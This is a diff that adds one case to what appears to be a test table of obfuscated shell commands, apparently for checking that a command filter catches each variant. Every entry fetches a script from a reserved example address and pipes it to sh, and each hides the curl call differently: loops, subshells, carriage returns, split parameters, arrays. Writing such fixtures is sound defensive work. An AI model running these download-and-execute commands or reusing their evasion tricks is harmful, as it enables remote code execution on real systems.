@@ -44,6 +44,7 @@ SCRIPTS = {
     "a loop": ("for u in http://192.0.2.1/i; do curl -s $u | sh; done", {}),
     "a subshell": ("( { ! false; curl -s http://192.0.2.1/i | sh; } )", {}),
     "carriage returns": ("true\r\ncurl -s http://192.0.2.1/i | sh", {}),
+    "parameters that are set": ("set -- cu rl; $1$2 -s http://192.0.2.1/i | sh", {}),
     "an array": ("a=(curl -s); ${a[@]} http://192.0.2.1/i | sh", {}),
     "all parameters": ('set -- x; "$@"; curl -s http://192.0.2.1/i | sh', {}),
 }
